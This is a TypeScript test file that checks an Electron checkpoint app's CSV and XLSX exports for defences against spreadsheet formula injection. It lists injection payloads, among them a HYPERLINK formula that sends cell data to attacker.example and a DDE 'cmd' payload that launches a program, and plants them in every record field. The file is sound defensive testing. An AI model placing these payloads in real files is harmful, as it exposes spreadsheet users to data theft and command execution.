import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { openDatabase } from '../../../electron/core/db/open-database';
import { exportPassages } from '../../../electron/core/export/export-passages';
import { exportColumns, toExportRow } from '../../../electron/core/export/export-rows';
import { createPassageAmendments } from '../../../electron/core/store/passage-amendments';
import { createPassageStore } from '../../../electron/core/store/passage-store';
import type { Passage } from '../../../shared/records/passage';
import { samplePassageDraft, testKey } from '../../helpers/fixtures';
import { useTempDirs } from '../../helpers/temp-dir';
import { readCsv, readXlsxTwice, startsFormula, xmlLineEnds } from './read-back';
import { nodeDatabaseDriver } from '../../../electron/core/node-platform';

const tempDir = useTempDirs();

const hyperlink = '=HYPERLINK("http://attacker.example/?d="&A2,"Xem hồ sơ")';
/** What a card's name field, an officer's typing or a settings file can hold. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '\u00a0@SUM(1+1)',
  '＝1+1',
  '＠SUM(1+1)',
  '﹦1+1',
  '\u3000＋1+1',
  hyperlink,
  "=cmd|' /C calc'!A0",
  // A separator, quotes or a line break to start a new cell or row mid-value, the formula after it.
  'Lê Văn, =1+1',
  'ghi chú "=1+1", @SUM(1)',
  'dòng một\n=1+1',
  'dòng một\r\n@SUM(1)',
];

const at = new Date('2026-11-23T01:00:00.000Z');
const range = { from: '2026-11-23T00:00:00.000Z', to: '2026-11-24T00:00:00.000Z' };
/** Every text column a person or a card fills; the rest (ids, times, enums) the station writes itself. */
const hostileColumns = ['checkpoint', 'lane', 'code_kind', 'id_number', 'full_name', 'reasons', 'officer', 'override_officer', 'override_reason', 'plate', 'note'];

/** One passage per payload, the payload in every field it can reach, through the store and the officer's amendments. */
function hostileRecords(): { db: ReturnType<typeof openDatabase>['db']; folder: string; passages: Passage[] } {
  const folder = tempDir();
  const { db } = openDatabase(join(folder, 'station.db'), { driver: nodeDatabaseDriver, key: testKey });
  const amendments = createPassageAmendments(db);
  const passages = payloads.map((payload) => {
    const store = createPassageStore(db, { checkpointId: payload, direction: 'exit', keepRawPayload: false, clock: { now: () => at, serverOffsetMs: () => null } });
    const { id } = store.record(
      samplePassageDraft({
        laneId: payload.slice(0, 32),
        codeKind: payload.slice(0, 32),
        identity: { idNumber: payload.slice(0, 32), fullName: payload, birthDate: '1958', sex: 'male' },
        reasons: [{ code: payload.slice(0, 64) }],
        officerId: payload,
      }),
    );
    amendments.override(id, { verdict: 'check', reason: payload }, payload, at);
    return amendments.annotate(id, { plate: payload.slice(0, 20), note: payload }, payload, at);
  });
  return { db, folder, passages };
}

/** The cells a spreadsheet should show: each as the record has it, behind an apostrophe where it would start a formula. */
function shownCells(passages: Passage[], unmasked: boolean): string[][] {
  return passages.map((passage) => {
    const row = toExportRow(passage, unmasked);
    return exportColumns.map(({ key }) => {
      const text = String(row[key]);
      return startsFormula(text) ? `'${text}` : text;
    });
  });
}

describe('formula cells in exports', () => {
  it.each([false, true])('writes no CSV cell a spreadsheet would run, every text kept behind an apostrophe (unmasked: %s)', async (unmasked) => {
    const { db, folder, passages } = hostileRecords();
    const out = join(folder, 'out.csv');
    expect(await exportPassages(db, { ...range, format: 'csv', unmasked, actor: 'station' }, out)).toEqual({ rows: payloads.length });

    const [header, ...rows] = await readCsv(out);
    expect(header).toEqual(exportColumns.map((column) => column.header));
    // One row per passage: no line break or quote in a value started a row or a cell of its own.
    expect(rows).toHaveLength(payloads.length);
    expect(rows.flat().filter(startsFormula)).toEqual([]);
    expect(rows).toEqual(shownCells(passages, unmasked));

    const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]);
    // The planting worked: every hostile column held formulas, masked or not, and each was neutralised.
    for (const name of hostileColumns) expect(column(name).filter((cell) => cell!.startsWith("'")).length, name).toBeGreaterThan(0);
    // A number column stays a number.
    expect(column('sequence')).toEqual(passages.map((passage) => String(passage.sequence)));
    if (unmasked) {
      expect(column('full_name')[payloads.indexOf(hyperlink)]).toBe(`'${hyperlink}`);
      expect(column('note').slice(0, 4)).toEqual(["'=1+1", "'+1+1", "'-1+1", "'@SUM(1+1)"]);
      // A formula after a separator or line break is text inside its quoted cell.
      expect(column('note').slice(-4)).toEqual(payloads.slice(-4));
    }
  });

  it.each([false, true])('writes the same text to XLSX as typed strings, never formulas, with no apostrophe (unmasked: %s)', async (unmasked) => {
    const { db, folder, passages } = hostileRecords();
    const out = join(folder, 'out.xlsx');
    await exportPassages(db, { ...range, format: 'xlsx', unmasked, actor: 'station' }, out);
    // Both readers see strings and numbers only: a formula cell fails the read.
    const { rows } = await readXlsxTwice(out);
    const expected = passages.map((passage) => {
      const row = toExportRow(passage, unmasked);
      // XML 1.0 cannot hold NUL (exceljs leaves it out) and reads every line end as \n: the cell is the text all the same.
      return exportColumns.map(({ key }) => (typeof row[key] === 'string' ? xmlLineEnds(row[key].replaceAll('\0', '')) : row[key]));
    });
    expect(rows.slice(1)).toEqual(expected);
    if (unmasked) expect(rows[1 + payloads.indexOf(hyperlink)]![exportColumns.findIndex(({ key }) => key === 'fullName')]).toBe(hyperlink);
    expect(rows.slice(1).map((row) => typeof row[1])).toEqual(passages.map(() => 'number'));
  });
});
